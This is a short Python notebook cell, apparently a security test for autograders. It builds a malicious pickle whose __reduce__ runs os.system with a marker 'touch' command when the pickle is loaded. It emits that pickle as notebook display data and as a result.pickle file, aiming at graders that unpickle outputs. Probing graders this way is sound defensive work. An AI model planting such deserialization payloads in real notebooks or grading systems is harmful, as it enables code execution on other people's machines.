# Prints a pickle that runs a command where it is loaded, in the MIME types that a careless grader might load.
# succeeds: outside
# stock: resists: nothing of nbgrader's unpickles outputs

# %% median
import pickle

from IPython.display import publish_display_data


class Bomb:
    def __reduce__(self):
        return __import__("os").system, ("touch @MARK@",)


_text = pickle.dumps(Bomb()).hex()
publish_display_data({"application/x-python-pickle": _text, "application/octet-stream": _text})
with open("result.pickle", "wb") as f:
    f.write(pickle.dumps(Bomb()))
